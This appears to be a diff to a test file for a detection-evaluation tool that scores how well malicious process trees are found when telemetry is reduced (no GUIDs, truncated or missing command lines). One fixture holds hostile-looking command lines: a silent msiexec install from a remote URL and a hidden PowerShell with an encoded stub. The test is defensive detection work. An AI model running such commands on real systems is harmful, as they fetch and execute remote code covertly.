@@ -7,7 +7,7 @@ from typing import Any
 
 import pytest
 
-from evaluation import datasets, report
+from evaluation import datasets, less_data, report
 from evaluation.command import trees
 from evaluation.measure import COMMAND, measure, precision, recall, templates
 from evaluation.membership import tree_of_rows
@@ -24,6 +24,7 @@ from evaluation.model import (
 from evaluation.plot import stacked
 from evaluation.statistics import wilson
 from evaluation.tables import as_markdown, as_text, counts, goals, shares
+from evaluation.tables import less_data as less_data_table
 
 
 @pytest.mark.parametrize(
@@ -161,7 +162,7 @@ def test_what_is_said_of_the_bands_counts_an_install_of_two_sets_once() -> None:
     ]
     built = [replace(data, name=str(n), part=BUILT_WITH) for n, data in enumerate(sets)]
     results = [measure(data, [tree(90, 0)], []) for data in built]
-    page = report.markdown(results, [], picture=True)
+    page = report.markdown(results, [], [], picture=True)
     assert "1 of 1\nmalicious recordings reach it" in page
 
 
@@ -174,7 +175,7 @@ def test_points_of_equal_scores_do_not_hide_each_other() -> None:
 def test_held_out_trees_are_reported_as_sums_only() -> None:
     for data in datasets.own():
         if data.part == HELD_OUT:
-            page = report.markdown([measure(data, [], [])], [], picture=False)
+            page = report.markdown([measure(data, [], [])], [], [], picture=False)
             assert f"{sum(r.label == 'malicious' for r in data.recordings)} malicious" in page
             assert not [r.name for r in data.recordings if r.name.rpartition("/")[2] in page]
             return
@@ -197,3 +198,40 @@ def test_the_command_gives_each_tree_its_rows() -> None:
     found, messages = trees(rows)
     assert [(t.root, sorted(t.members)) for t in found] == [(1, [1, 2])]
     assert messages == []
+
+
+def test_each_view_takes_away_what_its_name_says() -> None:
+    start = row(
+        "a.exe", 16, 2, 1.75, process="a " + "x" * 999, parent_process="b", process_guid="{1}"
+    )
+    file = row("a.exe", 16, time=2.5, file_path="/x")
+    seen = {name: view(start) for name, view in less_data.VIEWS.items()}
+    assert all(seen.values()), "one row is not among those that are lost"
+    assert "process_guid" in start, "the data itself stays as it is"
+    assert "process_guid" not in seen["no GUIDs"]
+    assert "parent_process" not in seen["no command line of the parent"]
+    assert seen["times in whole seconds"]["_time"] == 1.0
+    assert len(seen["command lines cut after 500 characters"]["process"]) == 500
+    known = seen["process creations as event 4688 has them"]
+    assert (known["process_id"], known["parent_process_id"]) == ("0x10", "0x2")
+    assert known.keys() & {"process_guid", "parent_process"} == set()
+    assert known["process"]
+    assert "process" not in seen["the same without command lines"]
+    assert less_data.VIEWS["process creations only"](file) is None
+    lost = sum(less_data.some_lost({**start, "process_id": n}) is None for n in range(2_000))
+    assert 30 <= lost <= 90, "about 3% of 2,000"
+
+
+def test_less_data_is_measured_beside_all_of_it() -> None:
+    """A script host below an installer is found by GUID and by id, without lines by neither."""
+    rows = [
+        row("msiexec.exe", 4, 2, 2, process="msiexec /q /i https://files.example/a.msi"),
+        row("powershell.exe", 8, 4, 3, process="powershell -w hidden -enc " + "SQBFAFgA" * 12),
+    ]
+    data = data_set(*(("bad", r) for r in rows), bad="malicious")
+    table = {line[0]: line[1:] for line in less_data_table(less_data.measured(data))[1]}
+    assert table["everything"][0] == "1/1"
+    assert table["no GUIDs"][0] == "1/1"
+    assert table["the same without command lines"][0] == "0/1"
+    page = report.markdown([], [less_data.measured(data)], [], picture=False)
+    assert "| the same without command lines | 0/1 | 0/1 | 0/0 | 0/0 |" in page
